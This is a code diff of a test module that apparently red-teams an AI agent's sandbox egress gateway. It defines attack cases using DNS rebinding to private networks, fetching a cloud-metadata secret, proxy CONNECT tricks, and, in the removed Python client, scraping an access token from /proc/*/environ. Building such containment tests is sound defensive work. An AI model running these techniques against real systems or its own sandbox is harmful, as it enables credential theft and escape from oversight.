@@ -1,76 +1,27 @@
 import type { Arena } from "./arena.ts";
 import type { Attack, Attempt } from "./attack.ts";
-import { BRIDGE, type Ran } from "./engine.ts";
-import { NAIVE_PROXY_PORT } from "./naive-proxy.ts";
+import { client, connect, get, OPEN, PROOF } from "./egress-client.ts";
+import type { Ran } from "./engine.ts";
+import { throughLifted } from "./lifted-gateway.ts";
 import { NAMES } from "./names.ts";
 import { onTheBridge } from "./network.ts";
 import { type ShellAttack, shellAttack } from "./shell-attack.ts";
 import { METADATA_ADDRESS, METADATA_SECRET, newWord } from "./targets.ts";
 
 const AREA = "egress";
-const OPEN = "THE WAY IS OPEN";
-
-/**
- * A client of the gateway's proxy, past whatever the worker makes of it; in a control, of a naive proxy. `ask` gives the
- * answer's status and text; what is to follow a CONNECT is sent once that is answered.
- */
-const CLIENT = `import glob, os, socket, ssl
-def token():
-    for path in glob.glob("/proc/[0-9]*/environ"):
-        try:
-            for part in open(path, "rb").read().split(b"\\0"):
-                if part.startswith(b"FARHAND_ATTEMPT_TOKEN="): return part.split(b"=", 1)[1]
-        except OSError: pass
-    return b""
-def door(bearer=None):
-    if os.path.exists("/run/farhand/e.sock"):
-        s = socket.socket(socket.AF_UNIX); s.settimeout(4); s.connect("/run/farhand/e.sock")
-        s.sendall(b"Bearer " + (token() if bearer is None else bearer) + b"\\r\\n")
-        return s
-    s = socket.create_connection(("${BRIDGE.v4}", ${NAIVE_PROXY_PORT}), 4); s.settimeout(4)
-    return s
-def read(s):
-    got = b""
-    try:
-        while len(got) < 100000:
-            more = s.recv(65536)
-            if not more: break
-            got += more
-            if b"\\r\\n\\r\\n" in got and got.startswith(b"HTTP/1.1 200 Connection"): break
-    except OSError as error: got += str(error).encode()
-    return got.decode("latin1")
-def ask(head, after=b"", bearer=None):
-    try:
-        s = door(bearer); s.sendall(head.encode("latin1") + b"\\r\\nConnection: close\\r\\n\\r\\n" if b"CONNECT" not in head.encode()[:8] else head.encode("latin1") + b"\\r\\n\\r\\n")
-        text = read(s)
-        if after and " 200 " in text.split("\\r\\n")[0]:
-            s.sendall(after); s.settimeout(0.7); text += read(s)
-        s.close()
-    except OSError as error: text = "ERROR " + str(error)
-    print(head.split("\\r\\n")[0], "->", text.split("\\r\\n")[0][:120], text[-300:].replace("\\r\\n", " ")); return text
-def hello(name):
-    context = ssl.create_default_context(); incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
-    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
-    try: client.do_handshake()
-    except ssl.SSLWantReadError: pass
-    return outgoing.read()
-if " 200 " in ask("CONNECT allowed.example.com:443 HTTP/1.1\\r\\nHost: allowed.example.com:443", hello("allowed.example.com"))[:20]: print("${OPEN}")
-`;
 
 const throughTheProxy = (
-  spec: Pick<ShellAttack, "name" | "by" | "worked"> & { script(word: string): string },
+  spec: Pick<ShellAttack, "name" | "by" | "worked"> &
+    Partial<Pick<ShellAttack, "without">> & { script(word: string): string },
 ): Attack =>
   shellAttack({
     area: AREA,
     without: onTheBridge,
     proof: OPEN,
     ...spec,
-    script: ({ word }) => `python3 - <<'PYTHON'\n${CLIENT}${spec.script(word)}\nPYTHON`,
+    script: ({ word }) => client(`${PROOF}${spec.script(word)}`),
   });
 
-const connect = (host: string, after: string) =>
-  `ask("CONNECT ${host} HTTP/1.1\\r\\nHost: ${host}", ${after})`;
-const get = (url: string, host: string) => `ask("GET ${url} HTTP/1.1\\r\\nHost: ${host}")`;
 const gotMetadata = (_aim: unknown, { output }: Ran) => output.includes(METADATA_SECRET);
 
 /** One address in all the ways in which programs understand it. */
@@ -125,6 +76,8 @@ export const egressAttacks: Attack[] = [
   throughTheProxy({
     name: "allowed names that lead to loopback and private networks",
     by: "addresses are checked after the name is resolved",
+    // Their ports are listed too, so that no other rule can be what stops it.
+    without: throughLifted("addresses"),
     script: (word) =>
       [
         connect("private.example.com:443", `b"${word}"`),
@@ -180,7 +133,7 @@ if "${METADATA_ADDRESS}" in answer: ask("GET " + to + " HTTP/1.1\\r\\nHost: ${ME
 ];
 
 const getMoving = (word: string) =>
-  `python3 - <<'PYTHON'\n${CLIENT}${get(`http://moving.example.com/${word}`, "moving.example.com")}\nPYTHON`;
+  client(`${PROOF}${get(`http://moving.example.com/${word}`, "moving.example.com")}`);
 
 /** The name leads to the internet when it is asked for first, and inside right after that. */
 async function moving(arena: Arena, run: (script: string) => Promise<Ran>): Promise<Attempt> {
@@ -210,13 +163,13 @@ egressAttacks.push(
     by: "the gateway is closed between turns",
     async try(arena) {
       const word = newWord();
-      const script = `python3 - <<'PYTHON'\n${CLIENT}${get(`http://allowed.example.com/${word}`, "allowed.example.com")}\nPYTHON`;
+      const script = client(get(`http://allowed.example.com/${word}`, "allowed.example.com"));
       const { output } = await arena.engine.exec(await arena.agent.container(), script);
       return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
     },
     async control(arena) {
       const word = newWord();
-      const script = `python3 - <<'PYTHON'\n${CLIENT}${get(`http://allowed.example.com/${word}`, "allowed.example.com")}\nPYTHON`;
+      const script = client(get(`http://allowed.example.com/${word}`, "allowed.example.com"));
       const { output } = await arena.agent.run(script);
       return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
     },
